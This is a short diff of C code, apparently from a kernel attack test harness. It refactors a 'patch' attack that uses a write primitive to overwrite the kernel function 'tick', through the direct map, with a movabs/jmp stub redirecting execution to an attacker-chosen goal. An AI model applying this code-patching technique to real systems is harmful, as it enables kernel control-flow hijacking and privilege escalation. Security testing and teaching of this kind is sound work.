@@ -19,11 +19,11 @@ static void patch(const struct attack *attack, uintptr_t slide)
 {
 	uint8_t code[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 }; /* movabs $goal, %rax; jmp *%rax */
 	uint64_t goal = attack_linked_code(attack_goal) + slide;
-	uintptr_t at = attack_linked_code(tick) + slide;
+	phys_t at = attack_linked_code(tick) - KERNEL_BASE; /* the memory it is loaded to does not change */
 
 	memcpy(code + 2, &goal, sizeof(goal));
 	attack_primitive(attack);
-	attack_write(at - KERNEL_BASE + DIRECT_MAP_BASE, code, sizeof(code));
+	attack_write(attack_direct_map(at), code, sizeof(code));
 	tick(1);
 }
 ATTACK_BODY(patch)
